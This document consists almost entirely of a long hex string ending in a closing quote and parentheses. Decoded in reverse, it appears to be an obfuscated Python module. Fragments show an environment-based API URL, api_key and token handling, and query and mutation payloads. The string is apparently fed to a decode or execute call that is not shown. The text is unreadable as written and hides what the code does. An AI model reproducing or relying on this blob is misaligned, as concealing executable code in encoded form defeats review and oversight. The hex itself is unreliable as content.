7962717b7e6c5a316471646023594251522668247e696270702020202a0e627574756270202020202020202a09222e25646f63602359425150247567602f647024656c6961664228247e69627070202020202020202a0a35646f636f5379627170247f6e602669602020202a0924696f5e6f69647361637e616274702c237e656b6f64702c29756b6f5960716825646f636f537962717f547567602d3025646f636f53796271702020202a09222e2e2e25646f63602359425150276e6968636475664228247e696270702020202a002020202a0e627574756270202020202020202a09222e2e6f69647361637e616274702359425150256471656273602f647024656c6961664228247e69627070202020202020202a0a34696f5e6f69647361637e61627470247f6e602669602020202a002020202a09202020202a056d616e6f5d65647960202020202020202a0c256369627070202020202020202a0c25646f636f5e6f6964707f6f5567616b63616070202020202020202a0c2e6769637f5f647f537470202020202020202a0c247e656d6971607f5e656b6f6470202020202020202a0c237e656b6f6470202020202020202a0c29756b6f59607160202020202020202a08237962717f547e656d656c64747563702d3024696f5e6f69647361637e616274702020202a002020202a0d52207d616473756d6964722b516471646f53746f6864756d6f547e656d697160702d302e6769637f5f647f5374702020202a0d52247e656d6971607f5e656b6f64722b516471646f53746f6864756d6f547e656d697160702d30247e656d6971607f5e656b6f64702020202a002020202a09202020202a0c25646f636f5e6f6964707f6f5567616b6361607d3475676271647f547e656d69716070202020202020202a0c2e6f6964716d6279666e6f636f5e656b6f647d3e6f6964716d6279666e6f636f5e656b6f6470202020202020202a0c237e656b6f647d337e656b6f6470202020202020202a0c29756b6f5960716d39756b6f59607160202020202020202a0823746f6864756d6f547e656d6971607f547567602d30216471646f53746f6864756d6f547e656d697160702020202a002020202a09222e2e2e237c696164756460246f6864756d60247e656d69716070276e6968636475664228247e696270702020202a0a392222202d30227473702a356d616e6f5d656479602c247e69602a3563696270702c227473702a3e6f6964716d6279666e6f636f5e656b6f64702c227473702a35646f636f5e6f6964707f6f5567616b636160702c24736964602a337e656b6f64702c227473702a39756b6f59607168247e656d6971607f537962717f577f6863702665646a0a0d5225646f636f5271722b5d5221647164622b537562702e6275747562702020202a002020202a056e6f6e402e627574756270202020202020202a09222d7375627b702a327f627275422668247e69627070202020202020202a09222e25646f636023594251502863647566602f647024656c6961664228247e69627070202020202020202a0a322353554343455352202d31202d52237574716473722b537562702669602020202a092224535f4052202c2d522e656b6f647f5469622b537e656b6f64702c24616f6c697160702c28647160702c29756b6f59607168247375657175627f5960716f546e6563702d30237562702020202a002020202a0d702020202a0222202a322375747164737220202020202020202a0c222e6562202a32276e616c6220202020202020202a0c25637c6166402a3225637962707275647e656f53796220202020202020202a0c24696f5e6f69647361637e616274702a3224696f5e6f69647361637e6162747220202020202020202a0b702d3024616f6c697160702020202a022c69616475646d276e69646e65607f28367f2960716f23747e656d69716072202d3028647160702020202a0a392a027473702a34696f5e6f69647361637e616274702020202a0c24736964602a337e656b6f64702020202a0c227473702a39756b6f596071602020202a0825646f636f537962717f547567602665646a002020202a047875647e20737562702e627574756270202020202020202a0925602c222d52727560247079727365646b5228247e69627070202020202020202a0a35602371602e6f6964707563687540247075636875602020202a04696f5e6f69647361637e616274702e627574756270202020202020202a00202020202020202a0d5225646f636f5e6f69647361637e616274722b5d5221647164622b59746f626f546564707972736564602d3024696f5e6f69647361637e61627470202020202020202a00202020202020202a056e6f6e402e62757475627020202020202020202020202a09222d79746f626f5465647079727365646b702a327f627275422668247e6962707020202020202020202020202a09222e247e656d656c64747563702564716964796e69602f647024656c6961664228247e6962707020202020202020202020202a0a322353554343455352202d31202d52237574716473722b59746f626f54656470797273656460266960202020202020202a09286471607d38647160702c2928647160702c247875647e20737562782374616f6c6e25636e6164737e69427563616274502c29756b6f5960716821647164687f54707972736564602d3029746f626f54656470797273656460202020202020202a0a397274702020202a002020202a0929746f62602c23727564616568602c2864716078247e656d656c647475637f54737f60702d3020737562702020202a09222e2e2e2473756571756270247e656d656c6474756370276e69646e65635228247e696270702020202a002020202a0d702020202a0c22203e273e2832202a322070716d2e6f69637275667d287220202020202020202a0c2924716f5465647375657175627f5878207d616473756d69647f556b696c6f5166716a602a3224716d247375657175627d287220202020202020202a0c29292824346965757e2469657578227473702a3224696d247375657175627d287220202020202020202a0c2769637f58702a3225627574716e6769637d287220202020202020202a0c292365637f556d69647f57696378227473702a32256d69647d25627574716e6769637d287220202020202020202a0c22233672202a3226786d287220202020202020202a0c222d7d572e656b6f647f5469672b537e656b6f647b702275627165624226602a322e6f6964716a79627f686475716220202020202020202a0c29554b4f594051402a3229756b6d2960716d287220202020202020202a0c2145502a32247e6567616d227563757220202020202020202a0c22283d2664757d34756372716863602b3e6f637a6f2e6f69647163696c60707162202a32256079747d247e65647e6f636220202020202020202a0c292222202c222f2f2a337074747862282563616c6075627e2c42555f5940514f55435142402a3224737f686220202020202020202a0b702d3023727564616568602020202a002020202a0920202020202020202a0223594251522020202020202020202020202a0c247e656d6971607f5e656b6f647020202020202020202020202a0c2475676271647f547e656d6971607020202020202020202020202a0c2e6769637f5f647f53747020202020202020202020202a0c2d522e656b6f647f537375636361622b537e656b6f647020202020202020202020202a0c29756b6f5960716020202020202020202020202a08247e656d6971607f55627574716e6769637f587f547567602d302769637f58702020202a0d5229746f626f546564707972736e65622b54616f6c6971607f546564707972736e65602d3029746f62602020202a002020202a0e6769637f5f647f5374702d302d52207d616473756d6964722b54616f6c6971607f547e656d656c64747563702020202a0928256e6f6a756d696473716e292364757e256e6f6a756d69647d3a74702c2365637f556d69647f57696378207d616473756d69647d6f62766e256d696475647164602d3024716f5465647375657175627f58702020202a0920303031302f2f20256d69647878202d302365637f556d69647f576963702020202a092d52256d696478722b5d5229746f626f546564707972736e65622b54616f6c6971607f546564707972736e6568247e69602d30256d696478702020202a002020202a09202020202a04616f6c6971607f547e656d656c647475637d34616f6c69716070202020202020202a0c2d522e656b6f647f5469622b537e656b6f647d3e656b6f647f546960202020202020202a0c286471607d3864716070202020202020202a0c2224535f40522d346f6864756d60202020202020202a0c29756b6f5960716d39756b6f59607160202020202020202a0821647164687f5e67696374707972736e65602d3024616f6c6971607f546564707972736e65602020202a002020202a0d702020202a092928256d69647e256d696478247e69602a32207d616473756d69647220202020202020202a0c222359425152202a32246f6864756d6f547e656d6971607220202020202020202a0c247e656d6971607f5e656b6f64702a322e656b6f647f5e6f696471636966696275667220202020202020202a0c2d5d70202020202020202a00302a32287164722020202020202020202020202a0c256d616e6f5d656479602a32256d616e6f5d656479622020202020202020202020202a0c2563696270702a3225636962707f5d656479622020202020202020202020202a0c2222202a32256079747f547365746f6270722020202020202020202020202a0c2475676271647f547e656d697160702a3225646f636f5d656479622020202020202020202020202a0b7b502a32237d6564796220202020202020202a0c222e6562202a32276e616c6220202020202020202a0c25637c6166402a32247e696f607f5563757f53796220202020202020202a0c20302a322565666f5c61647f647220202020202020202a0c247e696f547e657f6d61602a32247e657f6d616f5c61647f647220202020202020202a0c2d70202020202020202a00302a322f6d6f62707f547e657f63637964622020202020202020202020202a0c25637c6166402a3223757e6f626f537168622020202020202020202020202a0c20302a32276e696272757365627f547e657f63637964622020202020202020202020202a0c25637c6166402a322e616c607f5863647967737f5379622020202020202020202020202a0c2d5b502a32237c69616475646f5f626d6f63622020202020202020202020202a0c25637c6166402a322e616c607f597c696d61666f5379622020202020202020202020202a0c2222202a3227616478637163622020202020202020202020202a0c20302a3223757e6f626f51647f6571722020202020202020202020202a0c2222202a32256079747f547966656e6562622020202020202020202020202a0c20302a32287164722020202020202020202020202a0c25637c6166402a3224796d696c6f546e6560737f5379622020202020202020202020202a0c20302a32247e657f6d616f54796d696c6f546e656073722020202020202020202020202a0c2222202a32256079747f5e6f6964716277696d622020202020202020202020202a0c25637c6166402a32297271627f607d65647f54796d696c6f546e6560737f5379622020202020202020202020202a0c2563696270702a3225636962707f5c616e696769627f622020202020202020202020202a0b702a32216471646f5c616e6f6964796464616220202020202020202a0c25637c6166402a3224756c6c61677f5c68797d6f53796220202020202020202a0c2d522e656b6f647f537375636361622b537e656b6f64702a322e656b6f647f5373756363616220202020202020202a0c2d70202020202020202a0d7020202020202020202020202a00302a3225657c6166722020202020202020202020202a0c2222202a3225607974722020202020202020202020202a0c2222202a322c6562616c622020202020202020202020202a0b702a32276e69647475637f546c6f6863756278647f5975726f647571622020202020202020202020202a0c2222202a3225646f636f5975726f6475716f546564716679647361622020202020202020202020202a0c25637c6166402a322975726f6475716f576e6963757f5379622020202020202020202020202a0b702a322975726f6475716220202020202020202a0c25637c6166402a3225637962707275647e656f53796220202020202020202a0c2222202a322275626d657e6f5075707f647220202020202020202a0c222547414b4341405f59555242202a32227f666f547e656d6971607220202020202020202a0c2222202a322e6f60757f636220202020202020202a0c20302a32247e657f636379646f5c61647f647220202020202020202a0c25637c6166402a32276e696471627f527567676962747f5e61636220202020202020202a0c2d70202020202020202a0d5b502a32237275626d656d622020202020202020202020202a0c2222202a322371696c616f547e656271607f5261627b61622020202020202020202020202a0c2d5b502a32237275626d656d6f5261627b61622020202020202020202020202a0b702a322261627b616220202020202020202a0b702d3024616f6c6971607f547e656d656c64747563702020202a02237962717f247e656d69716079647c657d6d247e656d656c647475637f28367f2960716f23747e656d69716072202d3028647160702020202a0473756571756270247e656d656c647475635023202020202a002020202a056e6f6e402e62757475627020202020202020202020202a09222e2563696270702c616e696769627f60276e696375702c2475707e696025647962777275667f6024696c61667e694228247e6962707020202020202020202020202a0a327f62727545657c61665024707563687560202020202020202a092274737f547e657f6d6168247e69602d30247e696f547e657f6d616020202020202020202020202a0a39727470202020202020202a0a3222202d31202274737f547e657f6d61602669602020202a002020202a0563696270702d30247e696f547e657f6d61602020202a0922202a347e657f6d6160247c65716665646025637570262025627f6e6769602f64702275647e65602373756270702c25647962777275667f602f64702465656e60257f697026696025657c6166702275647e654e6c5e2d75636962707b70237960247e657f6d61602c61647f645226682475707e69602d302274737f547e657f6d61602020202a00202a392a0c2222202d30227473702a356d616e6f5d656479602020202a0c247e69602a3563696270702020202a0c227473702a3475676271647f547e656d697160702020202a0c247e69602a3e6769637f5f647f5374702020202a0c227473702a347e656d6971607f5e656b6f64702020202a0c24736964602a337e656b6f64702020202a0c227473702a39756b6f596071602020202a08237962717f547e656d656c64747563702665646a0a0d5221647164622b5375627f547e656d697160702e6275747562702020202a002020202a002020202a002020202a056e6f6e402e627574756270202020202020202a09222d7375627f547e656d6971607b702a327f627275422668247e69627070202020202020202a09222e23746f6864756d60247e656d697160702863647566602f647024656c6961664228247e69627070202020202020202a0a322353554343455352202d31202d52237574716473722b5375627f547e656d697160702669602020202a092224535f4052202c2d522e656b6f647f5469622b537e656b6f64702c24616f6c6971607f547e656d697160702c286471607f547e656d697160702c29756b6f59607168247375657175627f5960716f546e6563702d302375627f547e656d697160702020202a002020202a0d702020202a0e6f6964716d6279666e6f636f5e656b6f64702a322e6f6964716d6279666e6f636f5e656b6f647220202020202020202a0c25637c6166402a322c616272756665627f53796220202020202020202a0c222e6562202a32276e616c6220202020202020202a0c2475676271647f547e656d697160702a322475676271647f547e656d6971607220202020202020202a0c25637c6166402a3225637962707275647e656f53796220202020202020202a0c22254351484342555052202a32256079747f547e656d6971607220202020202020202a0b702d3024616f6c6971607f547e656d697160702020202a022e6f6964707f6d23746f6864756d6d247e656d6971607f28367f2960716f23747e656d69716072202d30286471607f547e656d697160702020202a0a392a0c227473702a3475676271647f547e656d697160702020202a0c227473702a3e6f6964716d6279666e6f636f5e656b6f64702020202a0c24736964602a337e656b6f64702020202a0c227473702a39756b6f596071602020202a0823746f6864756d6f547e656d6971607f547567602665646a0a092221455228267e656475676e237f602d3021455a092220564f58514228267e656475676e237f602d3020564f58514a092224494f5543494655444f58514228267e656475676e237f602d3024494f5543494655444f58514a09222c42555f5940514f554351424228267e656475676e237f602d302c42555f5940514f554351424a0a09747e657f626f55627574716e6769637f587f547567602c247e656d6971607f55627574716e6769637f587f547567602c207d616473756d69647f556b696c6f5166716a602c21647164687f5e67696374707972736e65602c21647164687f54707972736564602c246c6569666f546564707972736e656f546c696572602c29554b4f5940514024727f607d696024707972736e656e247e65696c636e207071602d6f62766a05636e6164737e694275636162745024727f607d6960276e69636162747e256369667275637e207071602d6f62766a0a2024727f607d69602c6563776e656e247e65696c636e207071602d6f62766a056d69647024727f607d696a0a0436356371626024727f607d696a046965757024727f607d696a01647c6564656d6964702c256e6f6a756d6964702c256d6964756471646024727f607d6960256d696475647164602d6f62766" ));